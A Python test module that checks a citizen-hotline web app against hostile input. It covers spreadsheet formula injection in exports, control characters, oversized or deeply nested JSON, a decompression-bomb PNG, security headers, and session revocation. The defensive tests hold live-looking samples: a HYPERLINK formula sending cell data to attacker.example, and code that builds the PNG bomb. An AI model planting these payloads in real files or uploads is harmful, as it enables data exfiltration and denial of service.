"""Hostile input, each with the request that once broke something: formula injection in the
exports, control characters in citizens' text (refused at the door, and cleaned from every
XML and .xlsx output when one is already stored), bodies and pictures that answered 500,
sessions that outlived sign-out, and a unit reading what the next unit did.

The rest of the attack has modules of its own: floods and guessing in
tests/test_rate_limits.py, the memory of eight bomb uploads in tests/test_upload_memory.py,
random actions by random actors in tests/test_random_actions.py, the public feed in
tests/test_open311.py."""

from __future__ import annotations

import io
from xml.etree import ElementTree

from openpyxl import load_workbook
from sqlalchemy import select

from hotline.appeals.models import Appeal
from hotline.core.db import write_transaction
from hotline.core.extensions import db
from hotline.open311 import clients
from tests.test_ledger import CAMPAIGN
from tests.test_reports import REPORT

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"点击查看")'


def _exported_rows(api, numbers: list[str]) -> list[tuple]:
    campaign = api.post("/api/v1/ledgers", "supervisor", json=CAMPAIGN | {"owner": "@SUM(1+1)"}, expect=201)
    campaign_id = campaign.get_json()["id"]
    api.post(f"/api/v1/ledgers/{campaign_id}/enroll", "supervisor", json={"numbers": numbers}, expect=200)
    resp = api.request("GET", f"/api/v1/ledgers/{campaign_id}/export.xlsx", "supervisor", expect=200)
    book = load_workbook(io.BytesIO(resp.data))
    return [row for sheet in book.worksheets for row in sheet.iter_rows()]


def test_a_citizens_formula_stays_text_in_the_ledger_export(api):
    """A 随手拍 title (or a campaign's owner) a spreadsheet would run as a formula is
    written as text: it opens showing what the citizen typed, and runs nothing."""
    report = api.post("/api/v1/reports", None, json=REPORT | {"title": FORMULA}, expect=201).get_json()
    rows = _exported_rows(api, [report["number"]])
    cells = [cell for row in rows for cell in row if isinstance(cell.value, str)]
    assert all(cell.data_type != "f" for cell in cells)
    assert f"'{FORMULA}" in [c.value for c in cells] and "'@SUM(1+1)" in [c.value for c in cells]


def test_control_characters_are_refused_at_intake(api):
    """A vertical tab in a title used to make the ledger export fail and the Open311 XML
    feed malformed; no person types one, so it is refused with the field named."""
    error = api.post("/api/v1/reports", None, json=REPORT | {"title": "路灯\x0b不亮"}, expect=400).get_json()
    assert error["error"]["fields"] == {"title": "不能含有控制字符（如空字符、垂直制表符）"}
    staff = api.post("/api/v1/appeals", "operator", json={"title": "a", "content": "噪音\x1b扰民"}, expect=400)
    assert "content" in staff.get_json()["error"]["fields"]
    with api.app.app_context():
        clients.add_client("测试客户端", "security-test-key")
    open311 = api.app.test_client().post(
        "/open311/v2/requests.json",
        data={"api_key": "security-test-key", "service_code": "040201", "lat": "41.88", "long": "123.32",
              "description": "路灯\x0b不亮"},
    )  # fmt: skip
    assert open311.status_code == 400 and open311.get_json()[0]["description"].startswith("description")


def test_a_stored_control_character_breaks_no_export_or_feed(api):
    """Text stored before the check (or by an import) is cleaned on the way out: the .xlsx
    opens and the public Open311 XML feed parses."""
    report = api.post("/api/v1/reports", None, json=REPORT | {"title": "路灯不亮"}, expect=201).get_json()
    with api.app.app_context(), write_transaction(db.session):
        appeal = db.session.scalars(db.select(Appeal).where(Appeal.number == report["number"])).one()
        # (PostgreSQL refuses NUL itself; these two it stores.)
        appeal.title, appeal.content = "路灯\x0b不亮", "整条街\x1f都黑了\x1b"
    rows = _exported_rows(api, [report["number"]])
    assert "路灯不亮" in [cell.value for row in rows for cell in row]
    feed = api.app.test_client().get("/open311/v2/requests.xml")
    assert feed.status_code == 200
    descriptions = [e.text for e in ElementTree.fromstring(feed.data).iter("description")]
    assert "整条街都黑了" in descriptions


def test_dates_out_of_any_sane_range_are_400_not_500(api):
    """Dates at the ends of the calendar overflowed date arithmetic and answered 500."""
    for query, field in (
        ({"received_to": "9999-12-31"}, "received_to"),
        ({"received_from": "0001-01-01"}, "received_from"),
    ):
        error = api.get("/api/v1/appeals", "dispatcher", query=query, expect=400).get_json()["error"]
        assert field in error["fields"]
    due = {"start": "9999-12-31T00:00:00+08:00", "working_days": "365"}
    assert "start" in api.get("/api/v1/calendar/due", "dispatcher", query=due, expect=400).get_json()["error"]["fields"]
    metrics = api.get("/api/v1/metrics", "supervisor", query={"start": "0001-01-01"}, expect=400).get_json()
    assert "start" in metrics["error"]["fields"]


def test_every_response_carries_the_security_headers(sqlite_app):
    """Pages, the API, static files and errors: only the app's own scripts run, no page can
    be framed, types are not sniffed, URLs do not leak, and no server version is named."""
    client = sqlite_app.test_client()
    for path in ("/login", "/api/v1/openapi.json", "/static/style.css", "/no-such-page", "/report"):
        headers = client.get(path).headers
        csp = headers["Content-Security-Policy"]
        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp, path
        assert headers["X-Frame-Options"] == "DENY" and headers["X-Content-Type-Options"] == "nosniff", path
        assert headers["Referrer-Policy"] == "same-origin" and headers["Server"] == "hotline", path


def test_no_template_has_inline_script_handler_or_style():
    """What the policy would block: inline <script> code, on… handlers, style attributes.
    (A <script type="application/json"> data block is not run, and is allowed.)"""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent / "hotline"
    offending = []
    for template in root.rglob("templates/**/*.html"):
        html = template.read_text(encoding="utf-8")
        for tag in re.findall(r"<script\b[^>]*>", html):
            if "src=" not in tag and 'type="application/json"' not in tag:
                offending.append(f"{template.name}: {tag}")
        offending += [f"{template.name}: {m}" for m in re.findall(r"\s(on[a-z]+=|style=)", html)]
    assert offending == []


def test_a_body_too_deep_or_too_large_is_400_before_parsing(api):
    """JSON nested 100,000 deep exhausted the parser and answered 500, even on the public
    report endpoint; a body far larger than any intake is refused before it is read."""
    client = api.app.test_client()
    deep = client.post("/api/v1/reports", data="[" * 100_000 + "]" * 100_000, content_type="application/json")
    assert deep.status_code == 400 and "嵌套" in deep.get_json()["error"]["message"]
    large = client.post(
        "/api/v1/reports", data=b'{"content": "' + b"x" * 300_000 + b'"}', content_type="application/json"
    )
    assert large.status_code == 400 and "过大" in large.get_json()["error"]["message"]
    brackets_in_text = REPORT | {"content": "[[[[" * 20 + "{{{{" * 20}
    assert (
        client.post("/api/v1/reports", json=brackets_in_text).status_code == 201
    )  # brackets inside strings count for nothing


def test_a_png_whose_text_chunk_inflates_too_far_is_refused(api):
    """A tiny PNG whose compressed text chunk inflates past Pillow's limit used to answer 500."""
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    bomb = zlib.compress(b"\0" * 20_000_000, 9)
    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"zTXt", b"Comment\0\0" + bomb)
           + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b""))  # fmt: skip
    report = api.post("/api/v1/reports", None, json=REPORT, expect=201).get_json()
    resp = api.app.test_client().post(
        f"/api/v1/reports/{report['number']}/photos?query_code={report['query_code']}",
        data={"file": (io.BytesIO(png), "bomb.png")},
        content_type="multipart/form-data",
    )
    assert resp.status_code == 400 and "图片已损坏" in resp.get_json()["error"]["message"], resp.get_data(as_text=True)


def _signed_in(app, username: str):
    from tests.helpers import Browser

    browser = Browser(app, username)
    browser.get("/appeals")
    return browser


def _signed_out(browser) -> bool:
    resp = browser.client.get("/appeals")
    return resp.status_code == 302 and "/login" in resp.headers["Location"]


def test_signing_out_ends_every_session_and_token_of_the_user(api):
    """The session cookie used to keep working after sign-out (it held only the user id for
    31 days): now signing out on one device ends the user's sessions and tokens everywhere."""
    office, phone = _signed_in(api.app, "dispatcher"), _signed_in(api.app, "dispatcher")
    token = api.token("dispatcher")
    stolen_cookie = office.client.get_cookie("session").value
    office.client.post("/logout", data={"csrf_token": office.csrf(office.get("/appeals"))})
    assert _signed_out(office) and _signed_out(phone)
    replayed = api.app.test_client()
    replayed.set_cookie("session", stolen_cookie)
    assert replayed.get("/appeals").status_code == 302
    gone = api.app.test_client().get("/api/v1/appeals", headers={"Authorization": f"Bearer {token}"})
    assert gone.status_code == 401


def test_a_new_password_or_new_roles_end_the_users_sessions(api):
    handler = _signed_in(api.app, "visitor")
    visitor_id = next(u["id"] for u in api.get("/api/v1/users", "admin", query={"q": "visitor"}).get_json()["items"])
    api.post(f"/api/v1/users/{visitor_id}/password", "admin", json={"password": "new-secret-42"}, expect=200)
    assert _signed_out(handler)
    dispatcher = _signed_in(api.app, "dispatcher")
    dispatcher_id = next(
        u["id"] for u in api.get("/api/v1/users", "admin", query={"q": "dispatcher"}).get_json()["items"]
    )
    api.request("PATCH", f"/api/v1/users/{dispatcher_id}", "admin", json={"roles": ["operator"]}, expect=200)
    assert _signed_out(dispatcher)


def test_sessions_end_when_idle_or_too_old(sqlite_app):
    import time

    idle, old = _signed_in(sqlite_app, "operator"), _signed_in(sqlite_app, "operator")
    with idle.client.session_transaction() as session:
        session["seen_at"] = time.time() - sqlite_app.config["HOTLINE_SESSION_IDLE_MINUTES"] * 60 - 1
    with old.client.session_transaction() as session:
        session["signed_in_at"] = time.time() - sqlite_app.config["HOTLINE_SESSION_MAX_HOURS"] * 3600 - 1
    assert _signed_out(idle) and _signed_out(old)
    assert not _signed_out(_signed_in(sqlite_app, "operator"))
    # Working keeps the session: a page loaded just before the idle limit starts it again.
    working = _signed_in(sqlite_app, "operator")
    with working.client.session_transaction() as session:
        session["seen_at"] = time.time() - sqlite_app.config["HOTLINE_SESSION_IDLE_MINUTES"] * 60 + 30
    working.client.get("/appeals", headers={"Sec-Fetch-Mode": "navigate"})
    with working.client.session_transaction() as session:
        assert time.time() - session["seen_at"] < 60


def test_the_session_cookie_is_secure_unless_turned_off(sqlite_template, tmp_path):
    import shutil

    from tests.conftest import make_app

    shutil.copy(sqlite_template, tmp_path / "hotline.sqlite3")
    app = make_app(f"sqlite:///{tmp_path / 'hotline.sqlite3'}", tmp_path, SESSION_COOKIE_SECURE=True)
    login = app.test_client().get("/login")  # the form's CSRF token starts a session
    cookie = login.headers.get("Set-Cookie", "")
    assert "Secure" in cookie and "HttpOnly" in cookie
    from config import load_settings

    assert load_settings(tmp_path)["SESSION_COOKIE_SECURE"] is True  # the default outside `make run`


def test_a_unit_that_returned_an_appeal_sees_its_own_part_not_the_next_units(api, app):
    """A street that returned an appeal kept reading it afterwards, the next street's notes
    and photos included ("ever sent to it"). Now it keeps the appeal as it was given to it
    and its own part of the timeline and photos; so does the district above it."""
    from tests.helpers import DISTRICT, OTHER_STREET, STREET, STREET_HANDLER, Browser
    from tests.test_attachments import jpeg_with_metadata, upload

    other = f"u{OTHER_STREET}"
    appeal = api.create()
    ref = appeal["id"]
    api.act(ref, "dispatch", "dispatcher", {"unit_id": api.unit_id(STREET)})
    ours = upload(api, ref, jpeg_with_metadata(), "before", STREET_HANDLER)
    api.act(ref, "return", STREET_HANDLER, {"reason": "不属于本街道辖区", "basis": "确责清单第3条"})
    api.act(ref, "approve_return", "dispatcher")
    api.act(ref, "dispatch", "dispatcher", {"unit_id": api.unit_id(OTHER_STREET)})
    api.act(ref, "sign", other)
    theirs = upload(api, ref, jpeg_with_metadata(), "after", other)
    api.act(ref, "reply", other, {"result": "五里河街道已清理占道车辆", "resolved": "解决"})

    for former in (STREET_HANDLER, f"u{DISTRICT}"):
        seen = api.appeal(ref, former)
        assert seen["content"] == appeal["content"]  # the appeal as it was given to them
        assert [e["action"] for e in seen["events"]] == ["create", "dispatch", "attach", "return", "approve_return"]
        assert seen["outcome"]["result"] is None and seen["outcome"]["public_reply"] is None
        photos = api.get(f"/api/v1/appeals/{ref}/attachments", former, expect=200).get_json()["items"]
        assert [p["id"] for p in photos] == [ours["id"]]
        api.get(f"/api/v1/attachments/{ours['id']}/content", former, expect=200)
        api.get(f"/api/v1/attachments/{theirs['id']}/content", former, expect=404)
        api.get(f"/api/v1/attachments/{theirs['id']}/thumbnail", former, expect=404)
    page = Browser(app, STREET_HANDLER).get(f"/appeals/{ref}")
    assert "五里河街道已清理占道车辆" not in page and "只显示本单位经手的部分" in page
    # the street handling it now, and the centre, see the whole story
    for whole in (other, "dispatcher"):
        seen = api.appeal(ref, whole)
        assert {"sign", "reply"} <= {e["action"] for e in seen["events"]}
        assert seen["outcome"]["result"] == "五里河街道已清理占道车辆"
        photos = api.get(f"/api/v1/appeals/{ref}/attachments", whole, expect=200).get_json()["items"]
        assert {p["id"] for p in photos} == {ours["id"], theirs["id"]}


def test_csv_exports_carry_no_live_formula_and_import_back_unchanged(api, app):
    """The 确责清单 and unit tree go out as CSV that a centre edits in a spreadsheet: a basis
    starting with = (or +, -, @) opens as text, and the file imports back as it was."""
    import csv
    import io

    from tests.helpers import Browser

    rule = {"category": "0402", "target_kind": "area", "target_level": "street", "basis": FORMULA, "priority": 7}
    api.post("/api/v1/routing-rules", "admin", json=rule, expect=201)
    admin = Browser(app, "admin")
    exported = admin.get("/admin/routing-rules.csv")
    bases = [row["basis"] for row in csv.DictReader(io.StringIO(exported))]
    assert f"'{FORMULA}" in bases and not any(b.startswith(("=", "+", "-", "@")) for b in bases)
    with app.app_context():
        from hotline.grid import rules
        from hotline.grid.models import ResponsibilityRule

        rules.import_rules_csv(exported, None)
        assert rules.export_rules_csv(None) == exported  # read back exactly: no apostrophe piles up
        assert FORMULA in db.session.scalars(select(ResponsibilityRule.basis)).all()
